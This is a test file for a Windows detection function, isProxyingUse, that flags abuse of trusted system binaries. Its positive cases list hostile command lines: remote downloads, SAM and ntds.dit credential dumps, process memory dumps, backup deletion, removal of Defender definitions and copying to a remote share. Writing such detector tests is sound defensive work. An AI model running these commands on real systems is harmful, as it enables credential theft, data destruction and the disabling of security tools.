import { describe, expect, test } from 'vitest'
import { isProxyingUse } from './proxying-use'

const TEAMS = 'C:\\Users\\ann\\AppData\\Local\\Microsoft\\Teams'

describe('a program that everybody uses all day', () => {
  test.each([
    ['conhost.exe', 'conhost.exe --headless powershell -c "iwr x"', 'C:\\Windows\\System32\\conhost.exe'],
    ['conhost.exe', 'conhost.exe C:\\Users\\Public\\a.exe', 'C:\\Windows\\System32\\conhost.exe'],
    ['ssh.exe', 'ssh.exe -o ProxyCommand="C:\\Temp\\a.exe" .', 'C:\\Windows\\System32\\OpenSSH\\ssh.exe'],
    [
      'teams.exe',
      `${TEAMS}\\current\\Teams.exe --gpu-launcher="cmd /c a &&"`,
      `${TEAMS}\\current\\Teams.exe`,
    ],
    ['update.exe', `${TEAMS}\\Update.exe --processStart payload.exe`, `${TEAMS}\\Update.exe`],
    ['update.exe', `${TEAMS}\\Update.exe --processStart TeamsHelper.exe`, `${TEAMS}\\Update.exe`],
    ['update.exe', `${TEAMS}\\Update.exe --update=http://203.0.113.7/a`, `${TEAMS}\\Update.exe`],
    ['code.exe', 'code.exe tunnel --accept-server-license-terms --name a', 'C:\\Temp\\code.exe'],
    ['code.exe', 'code.exe tunnel', 'C:\\Temp\\code.exe'],
    ['netsh.exe', 'netsh add helper C:\\Temp\\a.dll', 'C:\\Windows\\System32\\netsh.exe'],
    ['netsh.exe', 'netsh a h C:\\Temp\\a.dll', 'C:\\Windows\\System32\\netsh.exe'],
    ['dnscmd.exe', 'dnscmd . /config /serverlevelplugindll C:\\a.dll', 'C:\\Windows\\System32\\dnscmd.exe'],
    ['explorer.exe', 'explorer.exe /root,"C:\\Windows\\System32\\calc.exe"', 'C:\\Windows\\explorer.exe'],
    [
      'winword.exe',
      'winword.exe /l C:\\Users\\ann\\a.dll',
      'C:\\Program Files\\Microsoft Office\\winword.exe',
    ],
    [
      'imewdbld.exe',
      'IMEWDBLD.exe https://example.com/a.exe',
      'C:\\Windows\\System32\\IME\\SHARED\\IMEWDBLD.exe',
    ],
    [
      'mpcmdrun.exe',
      'MpCmdRun.exe -DownloadFile -url https://example.com/a.exe -path C:\\a.exe',
      'C:\\Program Files\\Windows Defender\\MpCmdRun.exe',
    ],
    [
      'certreq.exe',
      'certreq -Post -config https://example.com/ C:\\a.ini',
      'C:\\Windows\\System32\\certreq.exe',
    ],
    ['reg.exe', 'reg save HKLM\\SAM C:\\x\\s.hiv', 'C:\\Windows\\System32\\reg.exe'],
    ['reg.exe', 'reg.exe  save "HKEY_LOCAL_MACHINE\\SECURITY" s.hiv /y', 'C:\\Windows\\System32\\reg.exe'],
    [
      'ntdsutil.exe',
      'ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q',
      'C:\\Windows\\System32\\ntdsutil.exe',
    ],
    ['ntdsutil.exe', 'ntdsutil "ac i ntds" if "cr fu c:\\temp" q q', 'C:\\Windows\\System32\\ntdsutil.exe'],
    ['ntdsutil.exe', 'ntdsutil "ac i ntds" "i" "cr fu c:\\temp" q q', 'C:\\Windows\\System32\\ntdsutil.exe'],
    ['wbadmin.exe', 'wbadmin delete catalog -quiet', 'C:\\Windows\\System32\\wbadmin.exe'],
    ['wbadmin.exe', 'wbadmin DELETE SYSTEMSTATEBACKUP -keepVersions:0', 'C:\\Windows\\System32\\wbadmin.exe'],
    [
      'wbadmin.exe',
      'wbadmin start backup -backuptarget:\\\\fs01\\b -include:C:\\Windows\\NTDS\\ntds.dit -quiet',
      'C:\\Windows\\System32\\wbadmin.exe',
    ],
    ['mpcmdrun.exe', 'MpCmdRun.exe -RemoveDefinitions -All', 'C:\\Windows\\System32\\mpcmdrun.exe'],
    [
      'esentutl.exe',
      'esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\a.dit',
      'C:\\Windows\\System32\\esentutl.exe',
    ],
    ['extrac32.exe', 'extrac32 C:\\a.cab C:\\notes.txt:a.exe', 'C:\\Windows\\System32\\extrac32.exe'],
    [
      'rdrleakdiag.exe',
      'rdrleakdiag.exe /p 668 /o C:\\Temp /fullmemdmp',
      'C:\\Windows\\System32\\rdrleakdiag.exe',
    ],
    [
      'printbrm.exe',
      'PrintBrm.exe -b -d \\\\203.0.113.7\\share -f C:\\a.zip',
      'C:\\Windows\\System32\\spool\\tools\\PrintBrm.exe',
    ],
  ])('counts where it is made to run other code: %s %s', (slug, commandLine, image) => {
    expect(isProxyingUse(slug, commandLine, image)).toBe(true)
  })

  test.each([
    ['code.exe', 'code.exe tunnel status', 'C:\\Temp\\code.exe'],
    ['code.exe', 'code.exe C:\\src\\tunnel', 'C:\\Temp\\code.exe'],
    [
      'conhost.exe',
      '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
      'C:\\Windows\\System32\\conhost.exe',
    ],
    [
      'conhost.exe',
      'conhost.exe --headless --width 80 --height 24 --signal 0x4 --server 0x8',
      'C:\\Windows\\System32\\conhost.exe',
    ],
    ['ssh.exe', 'ssh -o ProxyCommand="ssh -W %h:%p gate" host', 'C:\\Windows\\System32\\OpenSSH\\ssh.exe'],
    ['update.exe', `${TEAMS}\\Update.exe --processStart "Teams.exe"`, `${TEAMS}\\Update.exe`],
    ['msedge.exe', 'msedge.exe --type=gpu-process', 'C:\\Program Files (x86)\\Microsoft\\Edge\\msedge.exe'],
    ['netsh.exe', 'netsh advfirewall show allprofiles', 'C:\\Windows\\System32\\netsh.exe'],
    ['explorer.exe', 'C:\\Windows\\explorer.exe', 'C:\\Windows\\explorer.exe'],
    [
      'winword.exe',
      'WINWORD.EXE /n "C:\\Users\\ann\\a.docx"',
      'C:\\Program Files\\Microsoft Office\\winword.exe',
    ],
    ['mpcmdrun.exe', 'MpCmdRun.exe -SignatureUpdate', 'C:\\Program Files\\Windows Defender\\MpCmdRun.exe'],
    ['reg.exe', 'reg query HKLM\\SAM', 'C:\\Windows\\System32\\reg.exe'],
    ['reg.exe', 'reg export HKLM\\SOFTWARE\\Vendor a.reg', 'C:\\Windows\\System32\\reg.exe'],
    [
      'ntdsutil.exe',
      'ntdsutil roles connections "connect to server dc1" q q',
      'C:\\Windows\\System32\\ntdsutil.exe',
    ],
    ['ntdsutil.exe', 'ntdsutil files info q q', 'C:\\Windows\\System32\\ntdsutil.exe'],
    ['wbadmin.exe', 'wbadmin get versions', 'C:\\Windows\\System32\\wbadmin.exe'],
    ['wbadmin.exe', 'wbadmin delete systemstatebackup -keepVersions:3', 'C:\\Windows\\System32\\wbadmin.exe'],
    ['wbadmin.exe', 'wbadmin delete systemstatebackup -deleteOldest', 'C:\\Windows\\System32\\wbadmin.exe'],
    [
      'mpcmdrun.exe',
      'MpCmdRun.exe -RemoveDefinitions -DynamicSignatures',
      'C:\\Windows\\System32\\mpcmdrun.exe',
    ],
    ['certreq.exe', 'certreq -new request.inf request.csr', 'C:\\Windows\\System32\\certreq.exe'],
    ['esentutl.exe', 'esentutl /p C:\\ProgramData\\a.edb', 'C:\\Windows\\System32\\esentutl.exe'],
    ['makecab.exe', 'makecab.exe C:\\a.log D:\\a.cab', 'C:\\Windows\\System32\\makecab.exe'],
    [
      'printbrm.exe',
      'PrintBrm.exe -b -f C:\\printers.printerExport',
      'C:\\Windows\\System32\\spool\\tools\\PrintBrm.exe',
    ],
    ['rundll32.exe', 'rundll32.exe C:\\Temp\\a.dll,Run', 'C:\\Windows\\System32\\rundll32.exe'],
    ['conhost.exe', null, 'C:\\Windows\\System32\\conhost.exe'],
  ])('does not count otherwise: %s %s', (slug, commandLine, image) => {
    expect(isProxyingUse(slug, commandLine, image)).toBe(false)
  })

  test('is read from 32 kB of hostile text without delay', () => {
    const hostile = `ssh.exe ${'proxycommand= %'.repeat(2000)}`
    expect(isProxyingUse('ssh.exe', hostile, 'C:\\Windows\\System32\\OpenSSH\\ssh.exe')).toBe(true)
  })
})
